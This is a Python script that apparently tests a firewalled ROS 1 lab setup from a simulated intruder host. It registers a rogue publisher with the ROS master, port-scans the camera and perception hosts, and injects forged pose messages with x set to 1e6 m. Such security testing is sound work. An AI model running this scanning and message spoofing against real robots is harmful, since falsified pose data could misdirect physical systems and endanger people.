#!/usr/bin/env python3
"""A third host on the two hosts' link (scripts/two-hosts netns --intruder) tries what ROS 1 lets
anyone do who reaches a master and its nodes (no authentication):
  1. a TCP connection to a port that is not ROS's and where nothing listens (the host is
     reachable: the kernel refuses it);
  2. registerPublisher of /aar/pose_estimate with the master (XML-RPC);
  3. a TCP connection to every port the camera host listens on (--ports, as a scan finds them),
     and the perception host (--perception ADDR --perception-ports P,P,...);
  4. a rospy node publishing, for --seconds, a copy of each real pose with x = 1e6 m (a lie that
     eval, on the camera host, records if it arrives).
One line per attempt, each starting 'intruder: ', saying whether it got through and if not why
(the socket's reason: 'timed out after 3 s' when a firewall drops it).
  intruder.py --master URI --ports P,P,... --perception ADDR --perception-ports P,P,...
              --closed-port P --seconds S"""
import argparse
import concurrent.futures
import os
import socket
import threading
import time
import xmlrpc.client
from urllib.parse import urlparse

TIMEOUT = 3.0  # [s] each connection attempt
FAKE_X = 1.0e6  # [m]


def reason(error):
    if isinstance(error, socket.timeout):
        return f"timed out after {TIMEOUT:g} s"
    return error.strerror or str(error)


def connect(host, port):
    """None if a TCP connection to host:port is accepted, else why not."""
    try:
        socket.create_connection((host, port), TIMEOUT).close()
        return None
    except OSError as e:
        return reason(e)


def register(master, own_ip):
    caller_api = f"http://{own_ip}:1/"  # where nobody listens: subscribers fail to connect
    try:
        proxy = xmlrpc.client.ServerProxy(master)
        code, status, subscribers = proxy.registerPublisher(
            "/intruder_probe", "/aar/pose_estimate", "aar_msgs/PoseEstimate", caller_api)
        if code == 1:
            proxy.unregisterPublisher("/intruder_probe", "/aar/pose_estimate", caller_api)
            return f"ACCEPTED (code 1); the pose's subscribers: {', '.join(subscribers)}"
        return f"refused by the master (code {code}: {status})"
    except OSError as e:
        return f"refused: {reason(e)}"


def scan(host, ports):
    with concurrent.futures.ThreadPoolExecutor(max_workers=32) as pool:
        results = dict(zip(ports, pool.map(lambda p: connect(host, p), ports)))
    accepted = sorted(p for p, r in results.items() if r is None)
    reasons = sorted({r for r in results.values() if r is not None})
    text = f"{len(accepted)} of {len(ports)} accept a connection"
    if accepted:
        text += f" (ACCEPTED: {', '.join(map(str, accepted))})"
    if reasons:
        text += f"; the others: {'; '.join(reasons)}"
    return text


def publish(seconds):
    """Copies of the real poses at x = FAKE_X, published for `seconds`; what came of it."""
    state = {"pub": None, "sent": 0, "error": None}

    def run():
        try:
            import rospy
            from aar_msgs.msg import PoseEstimate
            rospy.init_node("intruder", anonymous=True, disable_signals=True)
            pub = rospy.Publisher("/aar/pose_estimate", PoseEstimate, queue_size=10)

            def forge(msg):
                if msg.pose.position.x >= FAKE_X:
                    return  # our own
                msg.pose.position.x, msg.valid = FAKE_X, True
                pub.publish(msg)
                state["sent"] += 1

            rospy.Subscriber("/aar/pose_estimate", PoseEstimate, forge)
            state["pub"] = pub
        except Exception as e:  # rospy's own, from a master that does not answer
            state["error"] = str(e)

    threading.Thread(target=run, daemon=True).start()
    time.sleep(seconds)
    pub = state["pub"]
    if pub is None:
        why = state["error"] or "its node could not register: the master did not answer"
        return f"refused: no node came up in {seconds:g} s ({why})"
    n = pub.get_num_connections()
    text = f"{state['sent']} poses at x = {FAKE_X:g} m published to {n} subscribers"
    return ("ACCEPTED: " if state["sent"] and n else "refused: ") + text


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--master", required=True)
    parser.add_argument("--ports", required=True, help="P,P,...: the camera host's ports")
    parser.add_argument("--perception", required=True, help="the perception host's address")
    parser.add_argument("--perception-ports", required=True, help="P,P,...: its ports")
    parser.add_argument("--closed-port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    args = parser.parse_args()
    host = urlparse(args.master).hostname
    own_ip = os.environ.get("ROS_IP", "")
    socket.setdefaulttimeout(TIMEOUT)  # the XML-RPC call's too; not rospy's, below
    closed = connect(host, args.closed_port)
    print(f"intruder: TCP port {args.closed_port} of {host} (not a ROS port, nothing listens): "
          f"{closed or 'accepted'}", flush=True)
    print(f"intruder: registerPublisher /aar/pose_estimate with the master {args.master}: "
          f"{register(args.master, own_ip)}", flush=True)
    for who, address, ports in (("camera", host, args.ports),
                                ("perception", args.perception, args.perception_ports)):
        found = [int(p) for p in ports.split(",") if p]
        print(f"intruder: the {who} host's listening ports ({ports}): {scan(address, found)}",
              flush=True)
    socket.setdefaulttimeout(None)
    print(f"intruder: publish /aar/pose_estimate: {publish(args.seconds)}", flush=True)
    os._exit(0)  # rospy's threads, if any, go with it


if __name__ == "__main__":
    main()
